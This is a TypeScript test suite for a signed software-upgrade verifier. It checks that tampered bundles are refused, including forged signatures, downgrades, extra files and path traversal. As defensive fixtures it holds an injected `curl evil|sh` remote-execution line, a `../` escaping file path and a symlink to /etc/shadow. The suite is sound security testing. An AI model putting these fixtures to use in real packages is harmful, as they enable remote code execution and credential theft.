import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import { BundleRefusedError } from '../../src/upgrade/bundle-verifier.js';
import { buildBundle } from '../../src/upgrade/bundle-builder.js';
import { acceptKeyList, buildKeyList, generateReleaseKey, signDetached } from '../../src/upgrade/release-signing.js';
import type { ReleaseKeyList } from '../../src/upgrade/release-manifest.js';
import { verifyBundle } from '../../src/upgrade/upgrade.service.js';
import { tempDir } from '../helpers/app.js';
import { rewriteBundle, writeInstalledRelease, writeTinyRelease } from '../helpers/bundle.js';

const root = tempDir(t, 'officine-refusals-');
const installDir = join(root, 'opt');
writeInstalledRelease(installDir, '0.1.0');
const pinnedKey = generateReleaseKey();
const otherKey = generateReleaseKey();
const pinned: ReleaseKeyList = buildKeyList([pinnedKey.publicKey], 1);
const limits = { maxBundleBytes: 10 * 1024 * 1024, maxUnpackedBytes: 10 * 1024 * 1024, maxFiles: 1000 };
const now = new Date('2026-06-01T00:00:00Z');
const inDays = (d: number) => new Date(now.getTime() + d * 86400_000);

let n = 0;
async function bundle(opts: { version?: string; key?: string | null; expires?: Date; minFrom?: string; platform?: string } = {}): Promise<string> {
  const dir = join(root, `tree-${++n}`);
  const out = join(root, `b-${n}.tar.gz`);
  await buildBundle({
    files: writeTinyRelease(dir, opts.version ?? '0.2.0'),
    version: opts.version ?? '0.2.0',
    minFromVersion: opts.minFrom ?? '0.1.0',
    expiresAt: opts.expires ?? inDays(30),
    signingKeyPem: opts.key === null ? undefined : (opts.key ?? pinnedKey.privatePem),
    out,
    gzipLevel: 1,
    now,
    platform: opts.platform,
  });
  return out;
}

const verify = (path: string, l = limits) => verifyBundle(path, { installDir, pinned, limits: l, clock: { now: () => now } });

async function refused(t: Test, path: string, code: string, l = limits) {
  const err = await verify(path, l).then(
    () => undefined,
    (e: unknown) => e,
  );
  t.ok(err instanceof BundleRefusedError, 'refused with a BundleRefusedError');
  t.equal((err as BundleRefusedError).reason, code, `reason ${code}`);
  t.match((err as BundleRefusedError).userMessage, /^Paquet refusé/, 'French message for the operator');
  t.same(readdirSync(join(installDir, 'releases')).sort(), ['0.1.0'], 'nothing left in releases/');
}

const good = await bundle();

t.test('a well-formed bundle signed by a pinned key verifies (control)', async (t) => {
  const m = await verify(good);
  t.equal(m.version, '0.2.0');
  t.equal(m.files.length, 3);
  t.same(readdirSync(join(installDir, 'releases')), ['0.1.0'], 'verify installs nothing');
});

t.test('refuses an unsigned bundle', async (t) => refused(t, await bundle({ key: null }), 'unsigned'));
t.test('refuses a bundle signed by a key that is not pinned', async (t) => refused(t, await bundle({ key: otherKey.privatePem }), 'unknown_key'));
t.test('refuses a forged signature under a pinned key id', async (t) => {
  const forged = join(root, 'forged.tar.gz');
  const sig = JSON.stringify(signDetached(Buffer.from('another manifest'), pinnedKey.privatePem));
  await rewriteBundle(good, forged, (name, data) => (name === 'manifest.sig' ? Buffer.from(sig) : data));
  await refused(t, forged, 'bad_signature');
});
t.test('refuses an expired bundle', async (t) => refused(t, await bundle({ expires: inDays(-1) }), 'expired'));
t.test('refuses the same version', async (t) => refused(t, await bundle({ version: '0.1.0' }), 'not_newer'));
t.test('refuses a lower version', async (t) => refused(t, await bundle({ version: '0.0.9', minFrom: '0.0.1' }), 'not_newer'));
t.test('refuses when the installed version is below min_from_version', async (t) => refused(t, await bundle({ minFrom: '0.1.5' }), 'too_old'));

t.test('refuses a file changed after signing', async (t) => {
  const out = join(root, 'changed.tar.gz');
  await rewriteBundle(good, out, (name, data) => (name === 'release/dist/appliance/src/cli/main.js' ? Buffer.from("require('child_process').exec('curl evil|sh')\n") : data));
  await refused(t, out, 'hash_mismatch');
});

t.test('refuses a file that is not in the manifest', async (t) => {
  const out = join(root, 'extra.tar.gz');
  const data = Buffer.from('evil\n');
  await rewriteBundle(good, out, (_n, d) => d, [{ header: { name: 'release/dist/appliance/src/evil.js', size: data.length, mode: 0o644 }, data }]);
  await refused(t, out, 'file_not_in_manifest');
});

t.test('refuses a bundle missing a file the manifest lists', async (t) => {
  const out = join(root, 'missing.tar.gz');
  await rewriteBundle(good, out, (name, d) => (name === 'release/dist/web/index.html' ? null : d));
  await refused(t, out, 'file_missing');
});

t.test('refuses a ../ path before writing anything', async (t) => {
  const out = join(root, 'escape.tar.gz');
  const data = Buffer.from('#!/bin/sh\necho owned\n');
  await rewriteBundle(good, out, (_n, d) => d, [{ header: { name: 'release/../../escaped.sh', size: data.length, mode: 0o755 }, data }]);
  await refused(t, out, 'unsafe_path');
  t.notOk(existsSync(join(installDir, 'escaped.sh')) || existsSync(join(root, 'escaped.sh')), 'no file written outside the release');
});

t.test('refuses a bundle built for another platform', async (t) => {
  const m = await verify(good);
  t.equal(m.platform, `${process.platform}-${process.arch}`, 'a bundle records the platform it was built on');
  const other = process.arch === 'arm64' ? 'linux-x64' : 'linux-arm64';
  await refused(t, await bundle({ platform: other }), 'wrong_platform');

  // A bundle signed before platforms were recorded (no field) still verifies.
  const legacy = join(root, 'no-platform.tar.gz');
  let manifestBytes = Buffer.alloc(0);
  await rewriteBundle(good, legacy, (name, data) => {
    if (name === 'manifest.json') {
      const { platform: _dropped, ...rest } = JSON.parse(data.toString('utf8')) as Record<string, unknown>;
      manifestBytes = Buffer.from(JSON.stringify(rest, null, 1) + '\n');
      return manifestBytes;
    }
    if (name === 'manifest.sig') return Buffer.from(JSON.stringify(signDetached(manifestBytes, pinnedKey.privatePem)) + '\n');
    return data;
  });
  const m2 = await verify(legacy);
  t.equal(m2.platform, undefined, 'no platform recorded: accepted (a runtime that cannot start fails the health gate and rolls back)');
});

t.test('refuses a symlink entry', async (t) => {
  const out = join(root, 'symlink.tar.gz');
  await rewriteBundle(good, out, (_n, d) => d, [{ header: { name: 'release/dist/link', type: 'symlink', linkname: '/etc/shadow' } }]);
  await refused(t, out, 'unsupported_entry');
});

t.test('node_version in the manifest requires the runtime it names, executable', async (t) => {
  const dir = join(root, 'tree-runtime');
  const files = writeTinyRelease(dir, '0.2.0');
  const runtime = { abs: join(dir, 'fake-node'), path: 'runtime/bin/node', mode: 0o755 as const };
  writeFileSync(runtime.abs, '#!/bin/sh\necho v20.11.1\n', { mode: 0o755 });
  const build = async (name: string, list: typeof files) => {
    const out = join(root, `${name}.tar.gz`);
    await buildBundle({ files: list, version: '0.2.0', minFromVersion: '0.1.0', expiresAt: inDays(30), nodeVersion: 'v20.11.1', signingKeyPem: pinnedKey.privatePem, out, gzipLevel: 1, now });
    return out;
  };
  const m = await verify(await build('with-runtime', [...files, runtime]));
  t.equal(m.node_version, 'v20.11.1', 'with its runtime: verifies, node_version read back');
  await refused(t, await build('no-runtime', files), 'bad_manifest');
  await refused(t, await build('runtime-not-exec', [...files, { ...runtime, mode: 0o644 }]), 'bad_manifest');
});

t.test('refuses an oversize bundle, compressed or unpacked', async (t) => {
  await refused(t, good, 'oversize', { ...limits, maxBundleBytes: 200 });
  await refused(t, good, 'oversize', { ...limits, maxUnpackedBytes: 100 });
  await refused(t, good, 'oversize', { ...limits, maxFiles: 2 });
});

t.test('a new key list is accepted only when signed by a pinned key, with a higher serial', async (t) => {
  const next = Buffer.from(JSON.stringify(buildKeyList([pinnedKey.publicKey, otherKey.publicKey], 2)));
  const byPinned = Buffer.from(JSON.stringify(signDetached(next, pinnedKey.privatePem)));
  const ok = acceptKeyList(pinned, next, byPinned);
  t.ok(ok.ok, 'signed by the pinned key: accepted');
  t.same(ok.ok && ok.list.keys.map((k) => k.id), [pinnedKey.id, otherKey.id]);
  const byOther = Buffer.from(JSON.stringify(signDetached(next, otherKey.privatePem)));
  t.same(acceptKeyList(pinned, next, byOther), { ok: false, reason: 'unknown_key' }, 'signed by the new key itself: refused');
  const tampered = Buffer.from(JSON.stringify(buildKeyList([otherKey.publicKey], 2)));
  t.same(acceptKeyList(pinned, tampered, byPinned), { ok: false, reason: 'bad_signature' }, 'list changed after signing: refused');
  const replay = Buffer.from(JSON.stringify(buildKeyList([pinnedKey.publicKey], 1)));
  t.same(acceptKeyList(pinned, replay, Buffer.from(JSON.stringify(signDetached(replay, pinnedKey.privatePem)))), { ok: false, reason: 'not_newer' }, 'same serial (replay): refused');
});
